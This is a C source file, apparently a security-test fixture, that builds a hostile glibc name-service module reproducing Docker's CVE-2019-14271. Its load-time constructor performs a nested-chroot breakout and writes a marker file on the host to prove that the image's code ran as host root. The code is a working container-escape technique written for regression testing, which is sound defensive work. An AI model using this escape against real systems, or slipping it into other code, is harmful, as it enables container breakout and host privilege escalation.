/* A hostile image's name-service module (docker's CVE-2019-14271).
 *
 * An image ships /etc/nsswitch.conf naming "evil" and this file as
 * libnss_evil.so.2. Any process that looks up a user or group name while
 * the image's files are its root (a chroot) makes glibc dlopen it, and its
 * constructor runs with that process's privileges. With CAP_SYS_CHROOT it
 * leaves the chroot (the classic nested chroot) and writes MARKER, a path
 * on the host, outside the image: the proof that the image's code ran as
 * host root. Where it cannot get out (a root in another mount namespace,
 * /proc/PID/root of a running container), it leaves /.nss-ran in that root
 * instead. Built by tests/security/test_nss_escape.py with -DMARKER=... */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

#ifndef MARKER
#error "build with -DMARKER=\"/host/path\""
#endif

__attribute__((constructor)) static void ran_on_load(void)
{
    /* Inside a chroot MARKER's directory is not there: break out first. */
    if (access(MARKER_DIR, F_OK) != 0) {
        int here = open("/.nss-ran", O_WRONLY | O_CREAT, 0644);
        if (here >= 0)
            close(here);
        int up = open("/", O_RDONLY | O_DIRECTORY);
        mkdir("/.nss-escape", 0700);
        if (up >= 0 && chroot("/.nss-escape") == 0 && fchdir(up) == 0) {
            for (int i = 0; i < 64; i++)
                if (chdir("..") != 0)
                    break;
            if (chroot(".") != 0)
                return;
        }
    }
    int fd = open(MARKER, O_WRONLY | O_CREAT | O_APPEND, 0644);
    if (fd >= 0) {
        char line[64];
        int n = snprintf(line, sizeof line, "uid=%d pid=%d\n", (int)getuid(), (int)getpid());
        if (n > 0 && write(fd, line, (size_t)n) < 0) { /* nothing to do */ }
        close(fd);
    }
}
